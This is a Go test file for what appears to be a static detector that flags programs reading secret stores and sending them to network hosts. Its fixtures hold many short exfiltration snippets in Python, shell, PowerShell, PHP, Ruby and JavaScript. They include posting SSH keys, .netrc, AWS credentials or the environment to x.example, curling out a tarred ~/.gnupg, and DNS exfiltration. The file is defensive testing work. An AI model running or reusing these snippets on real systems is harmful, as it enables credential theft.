package beside

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/skillctl/skillctl/engine/flow/way"
	"github.com/skillctl/skillctl/internal/document"
	"github.com/skillctl/skillctl/internal/lazydfa"
)

// text is a program of a file, in the language that its name ends in.
func text(file, source string) Text {
	family := map[string]string{"py": "python", "js": "javascript", "rb": "ruby", "go": "go", "sh": "shell", "php": "php", "pl": "perl", "ps1": "powershell", "rs": "rust", "java": "java"}[file[strings.LastIndexByte(file, '.')+1:]]
	return Text{way.Text{File: file, Source: []byte(source), Start: document.Position{Line: 1, Column: 1}}, family}
}

func shownOf(list []Beside) string {
	var all []string
	for _, one := range list {
		apart := ""
		if one.Apart {
			apart = " apart"
		}
		all = append(all, fmt.Sprintf("%s:%d %s:%d %s%s", one.Read.Kind, one.Read.Span.Start.Line, strings.Join(one.Send.Hosts, ","), one.Send.Span.Start.Line, one.Send.Way, apart))
	}
	return strings.Join(all, "; ")
}

type findCase struct {
	texts []Text
	want  string
}

func findCases() map[string]findCase {
	return map[string]findCase{
		"through a queue":           {[]Text{text("a.py", "import queue, requests\nq = queue.Queue()\ndef work():\n    requests.post('https://x.example/', data=q.get())\nq.put(open('/home/me/.ssh/id_rsa').read())\n")}, "key:5 x.example:4 body"},
		"through a channel":         {[]Text{text("a.go", "package a\nvar c = make(chan []byte)\nfunc work() {\n\tfor b := range c {\n\t\thttp.Post(\"https://x.example/\", \"\", bytes.NewReader(b))\n\t}\n}\nfunc main() {\n\tb, _ := os.ReadFile(home + \"/.netrc\")\n\tc <- b\n}\n")}, "login:9 x.example:5 body"},
		"through an object":         {[]Text{text("box.js", "class Box {\n  put(x) {\n    this.kept = x;\n  }\n  send() {\n    return fetch('https://x.example/', { method: 'POST', body: this.kept });\n  }\n}\nmodule.exports = Box;\n"), text("a.js", "const Box = require('./box');\nconst box = new Box();\nbox.put(fs.readFileSync(home + '/.aws/credentials'));\nbox.send();\n")}, "login:3 x.example:6 body"},
		"through a file":            {[]Text{text("a.sh", "tar czf \"$T/kept.tgz\" ~/.gnupg\nsleep 1\ncurl -F f=@/tmp/kept.tgz https://x.example/in\n")}, "key:1 x.example:3 body"},
		"through a block":           {[]Text{text("a.rb", "found = %w[~/.netrc ~/.pgpass].map do |file|\n  File.read(File.expand_path(file))\nend\nNet::HTTP.post(URI('https://x.example/'), found.join)\n")}, "login:1 x.example:4 body"},
		"all variables":             {[]Text{text("a.py", "import os, requests\nkept = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/', json=kept)\n")}, "environment:2 x.example:3 body"},
		"in PowerShell":             {[]Text{text("a.ps1", "$kept = Get-ChildItem env: | ConvertTo-Json\nInvoke-RestMethod 'https://x.example/' -Method Post -Body $kept\n")}, "environment:1 x.example:2 body"},
		"as a name":                 {[]Text{text("a.php", "<?php\n$kept = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\ngethostbyname(bin2hex($kept) . '.t.x.example');\n")}, "key:2 t.x.example:3 dns"},
		"another is sent":           {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa').read()\nprint(len(key))\nwords = open('a.txt').read()\nrequests.post('https://x.example/', data=words)\n")}, "key:2 x.example:5 body apart"},
		"unless it is run":          {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa').read()\nexec(open('a.txt').read())\nrequests.post('https://x.example/', data='words')\n")}, "key:2 x.example:4 body"},
		"a test takes nothing over": {[]Text{text("a.py", "import requests\nLEFT_OUT = ['/.ssh/', '.git']\nfor file in files:\n    if file.parts(LEFT_OUT):\n        continue\n    requests.post('https://x.example/', data=file.read())\n")}, "key:2 x.example:6 body apart"},
		"for a child":               {[]Text{text("a.js", "const out = execSync('ls', { env: { ...process.env, A: '1' } });\nfetch('https://x.example/', { method: 'POST', body: out });\n")}, ""},
		"kept for a child":          {[]Text{text("a.py", "import os, requests\nenv = os.environ.copy()\nenv['A'] = '1'\nout = subprocess.run(['ls'], env=env)\nrequests.post('https://x.example/', data=out.stdout)\n")}, ""},
		"one variable":              {[]Text{text("a.py", "import os, requests\nkey = os.environ['KEY']\nif 'A' in os.environ:\n    requests.post('https://x.example/', data=key)\n")}, ""},
		"the user's host":           {[]Text{text("a.py", "import sys, requests\nkey = open('/home/me/.ssh/id_rsa').read()\nrequests.post(sys.argv[1], data=key)\n")}, ""},
		"half of a key":             {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa.pub').read()\nrequests.post('https://x.example/', data=key)\n")}, ""},
		"a key that is used":        {[]Text{text("a.sh", "eval \"$(ssh-agent -s)\"\nssh-add ~/.ssh/id_ed25519 2>/dev/null\nchmod 600 ~/.ssh/id_ed25519\ncurl -fsSL https://x.example/health\n")}, ""},
		"used, and packed":          {[]Text{text("a.sh", "ssh-add ~/.ssh/id_ed25519 && tar czf /tmp/kept.tgz ~/.ssh/id_ed25519\nsleep 1\ncurl -F f=@/tmp/kept.tgz https://x.example/in\n")}, "key:1 x.example:3 body"},
		"what a comment says":       {[]Text{text("a.rb", "# reads ~/.ssh/id_rsa\nkept = File.read('a.txt')\nNet::HTTP.post(URI('https://x.example/'), kept)\n")}, ""},
		"programs by themselves":    {[]Text{text("a.py", "key = open('/home/me/.ssh/id_rsa').read()\n"), text("b.py", "import requests\nrequests.post('https://x.example/', data=words)\n")}, ""},
	}
}

func TestFind(t *testing.T) {
	t.Parallel()
	for name, c := range findCases() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := shownOf(Find(c.texts, nil, nil, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }).Besides)
			if got != c.want {
				t.Errorf("found %q, want %q", got, c.want)
			}
		})
	}
}

// FuzzFind: whatever a program is, what is found lies in it, and is found again.
func FuzzFind(f *testing.F) {
	for _, c := range findCases() {
		for _, one := range c.texts {
			f.Add(one.Family, one.Source)
		}
	}
	f.Fuzz(func(t *testing.T, family string, source []byte) {
		if Family(family) == "" || len(source) > 4<<10 {
			return
		}
		find := func() []Beside {
			return Find([]Text{{way.Text{File: "a", Source: source, Start: document.Position{Line: 1, Column: 1}}, Family(family)}}, nil, nil, nil, func(string, string) {}).Besides
		}
		found := find()
		for _, one := range found {
			for _, at := range []document.Span{one.Read.Span, one.Send.Span} {
				if at.Start.Offset < 0 || at.End.Offset > len(source) || at.Start.Offset > at.End.Offset {
					t.Errorf("a place from %d to %d of %d bytes", at.Start.Offset, at.End.Offset, len(source))
				}
			}
		}
		if again := find(); shownOf(again) != shownOf(found) {
			t.Errorf("found %q, and then %q", shownOf(found), shownOf(again))
		}
	})
}

// TestHook: an address with the account of whoever reads what is sent there.
func TestHook(t *testing.T) {
	t.Parallel()
	for address, want := range map[string]bool{"https://discord.com/api/webhooks/118443029117/abc": true, "https://api.telegram.org/bot123:ab": true, "https://discord.com/api/v10/users": false} {
		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil, nil, nil).Besides
		if len(got) != 1 || got[0].Send.Hook != want {
			t.Errorf("%s: %+v, want hook %t", address, got, want)
		}
	}
}

// TestTime: what is written to be slow is not.
func TestTime(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	b.WriteString("import os, requests\nkept = dict(os.environ)\n")
	for i := range 2000 {
		fmt.Fprintf(&b, "def f%d(a, b):\n    x%d = f%d(a, b)\n    return x%d\n", i, i, i+1, i)
	}
	b.WriteString("requests.post('https://x.example/', data=f0(1, 2))\n" + strings.Repeat("(", 5000) + strings.Repeat("[\"", 5000))
	begin := time.Now()
	Find([]Text{text("a.py", b.String())}, nil, nil, nil, func(string, string) {})
	if took := time.Since(begin); took > 20*time.Second {
		t.Errorf("it took %s", took)
	}
}

// TestTables: what is compiled when a program asks for it compiles.
func TestTables(t *testing.T) {
	t.Parallel()
	all := tables()
	for _, list := range [][]kindOf{all.places, all.Names, all.Calls, all.Commands} {
		if len(list) == 0 {
			t.Error("a list of the table is empty")
		}
		for _, one := range list {
			one.match.Compiled()
		}
	}
	for _, one := range all.Sends {
		one.match.Compiled()
	}
	for _, one := range []*lazydfa.Regexp{all.hooks, all.shows, all.unseen, all.handed} {
		one.Compiled()
	}
}

// TestPlainEval: a text that calls nothing hides nothing when it is evaluated.
func TestPlainEval(t *testing.T) {
	t.Parallel()
	for code, want := range map[string]bool{"eval('return 1;');": true, "eval($code);": false, "eval('f($x);');": false, "eval(\"return $x;\");": false} {
		got := Find([]Text{text("a.php", "<?php\n$p = file(getenv('HOME') . '/.pgpass');\n$n = str_word_count(file_get_contents('notes.txt'));\nfile_get_contents('https://x.example/?n=' . $n);\n"+code+"\n")}, nil, nil, nil, nil).Besides
		apart := len(got) == 0 || got[0].Apart
		if apart != want {
			t.Errorf("%s: %+v, want apart %t", code, got, want)
		}
	}
}

// TestSends tells where programs send something, whether or not one of them reads a store.
func TestSends(t *testing.T) {
	for name, c := range map[string]struct {
		texts []Text
		want  string
	}{
		"a body":           {[]Text{text("a.py", "import requests\nrequests.post('https://x.example/in', json={'n': 1})\n")}, "x.example:2 body carries"},
		"a query":          {[]Text{text("a.js", "fetch(`https://x.example/in?k=${key}`);\n")}, "x.example:1 body carries"},
		"asked for":        {[]Text{text("a.py", "import requests\nprint(requests.get('https://x.example/list').json())\n")}, "x.example:2 body"},
		"by a name":        {[]Text{text("a.js", "const AT = process.env.AT || 'https://x.example/in';\nfunction tell(v) {\n  return fetch(AT, { method: 'POST', body: v });\n}\n")}, "x.example:3 body carries"},
		"by a default":     {[]Text{text("a.sh", "at=\"${AT:-https://x.example/in}\"\ncurl -s \"$at\" -F \"f=@$1\"\n")}, "x.example:2 body carries"},
		"of another file":  {[]Text{text("at.py", "AT = 'https://x.example/in'\n"), text("a.py", "import requests\nfrom at import AT\nrequests.put(AT, data=b'1')\n")}, "x.example:3 body carries"},
		"to who is asked":  {[]Text{text("a.py", "import sys, requests\nrequests.post(sys.argv[1], data=b'1')\n")}, ""},
		"words with post":  {[]Text{text("a.py", "import requests\nrequests.get('https://x.example/output.json')\nrequests.get('https://x.example/dispatch')\n")}, "x.example:2 body"},
		"a method by name": {[]Text{text("a.js", "fetch('https://x.example/in', { method: 'PUT' });\n")}, "x.example:1 body carries"},
		"a clustered flag": {[]Text{text("a.sh", "curl -sT out.csv https://x.example/in\n")}, "x.example:1 body carries"},
		"fails on errors":  {[]Text{text("a.sh", "curl -LsSf https://x.example/in\n")}, "x.example:1 body"},
		"a copy of a file": {[]Text{text("a.sh", "scp out.csv me@x.example:/in\n")}, "x.example:1 file carries"},
		"of a client":      {[]Text{text("a.py", "import boto3\ns3 = boto3.client('s3')\ns3.put_object(Bucket='quill-year', Key=k, Body=b)\n")}, "quill-year:3 body carries"},
		"by its bucket":    {[]Text{text("a.py", "from google.cloud import storage\nbucket = storage.Client().bucket('quill-year')\nbucket.blob(n).upload_from_filename(f)\n")}, "quill-year:3 client carries"},
		"of a server":      {[]Text{text("a.py", "import redis\nr = redis.Redis(host='mq.x.example')\nr.publish('in', v)\n")}, "mq.x.example:3 client carries"},
		"in a list":        {[]Text{text("a.py", "rows = []\nrows.append({'bucket': 'quill-year'})\n")}, ""},
		"in the path":      {[]Text{text("a.py", "import requests\nrequests.get(f'https://x.example/{v}')\n")}, "x.example:2 body carries"},
		"a release":        {[]Text{text("a.sh", "curl -fsSL https://x.example/v$V/a.tgz -o a.tgz\n")}, "x.example:1 body"},
		"nothing is sent":  {[]Text{text("a.py", "print('https://x.example/in')\n")}, ""},
		"each place once":  {[]Text{text("a.py", "import b\nimport requests\nrequests.post('https://x.example/in', data=b'1')\n"), text("b.py", "import a\n")}, "x.example:3 body carries"},
	} {
		t.Run(name, func(t *testing.T) {
			sends := Find(c.texts, nil, nil, nil, func(string, string) {}).Sends
			var all []string
			for _, one := range sends {
				for _, to := range one.Tenants {
					one.Hosts = append(one.Hosts, to.Name)
				}
				shown := fmt.Sprintf("%s:%d %s", strings.Join(one.Hosts, ","), one.Span.Start.Line, one.Way)
				if one.Carries {
					shown += " carries"
				}
				all = append(all, shown)
			}
			if got := strings.Join(all, "; "); got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}

// TestSettings: whom a program sends to stands in a file of settings that it names.
func TestSettings(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct{ program, file, text, want string }{
		"a key":             {"import json, requests\ncfg = json.load(open('cfg.json'))\nrequests.post(cfg['intake'], json={'n': 1})\n", "cfg.json", "{\"intake\": \"https://x.example/in\"}", "x.example"},
		"another key":       {"import json, requests\ncfg = json.load(open('cfg.json'))\nrequests.post(cfg['intake'], json={'n': 1})\n", "cfg.json", "{\"docs\": \"https://x.example/in\"}", ""},
		"of an environment": {"import os, requests\nfrom dotenv import load_dotenv\nload_dotenv()\nrequests.post(os.environ['INTAKE'], json={'n': 1})\n", ".env", "INTAKE=https://x.example/in\n", "x.example"},
		"a text":            {"import requests\nrequests.post(open('place.txt').read().strip(), json={'n': 1})\n", "place.txt", "https://x.example/in\n", "x.example"},
		"a file not named":  {"import sys, requests\nrequests.post(sys.argv[1], json={'n': 1})\n", "place.txt", "https://x.example/in\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			settings := func(file string) []byte {
				if file == c.file {
					return []byte(c.text)
				}
				return nil
			}
			got := ""
			for _, one := range Find([]Text{text("a.py", c.program)}, nil, settings, nil, func(string, string) {}).Sends {
				got += strings.Join(one.Hosts, " ")
			}
			if got != c.want {
				t.Errorf("%q, want %q", got, c.want)
			}
		})
	}
}
